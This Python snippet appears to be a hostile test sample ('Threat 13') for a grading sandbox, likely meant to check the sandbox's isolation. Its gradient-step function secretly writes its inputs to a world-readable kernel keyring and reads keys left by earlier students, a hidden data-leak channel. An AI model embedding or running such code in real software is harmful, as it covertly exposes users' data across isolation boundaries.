# %% step_plain_python
import ctypes

_libc = ctypes.CDLL(None, use_errno=True)
_ADD_KEY, _KEYCTL, _KEYCTL_SETPERM, _KEYCTL_READ = 248, 250, 5, 11   # x86_64 syscall numbers
_USER_KEYRING = -4
_NAME = b"pcpt-hostile-keyring"


def _leave_and_collect(payload: bytes) -> bytes:
    """Threat 13: the kernel keyring outlives the process and is shared by the uid (which a later
    student gets again); keys made readable by everyone can be read by any later student."""
    serial = _libc.syscall(_ADD_KEY, b"user", _NAME, payload, len(payload), ctypes.c_int(_USER_KEYRING))
    if serial < 0:
        raise OSError(ctypes.get_errno(), "add_key: " + __import__("os").strerror(ctypes.get_errno()))
    _libc.syscall(_KEYCTL, _KEYCTL_SETPERM, serial, ctypes.c_uint(0x3F3F3F3F))
    found = b""
    with open("/proc/keys") as keys:       # keys of earlier students that this uid may see
        for line in keys:
            if _NAME.decode() in line:
                buffer = ctypes.create_string_buffer(256)
                size = _libc.syscall(_KEYCTL, _KEYCTL_READ, int(line.split()[0], 16), buffer, 256)
                found += buffer.raw[:max(size, 0)]
    return found


def step_plain_python(theta, x, y, lr):
    _leave_and_collect(repr((theta, x, y, lr)).encode())
    residual = theta * x - y
    error = residual * residual
    grad = 2 * x * residual
    return float(error), float(grad), float(theta - lr * grad)
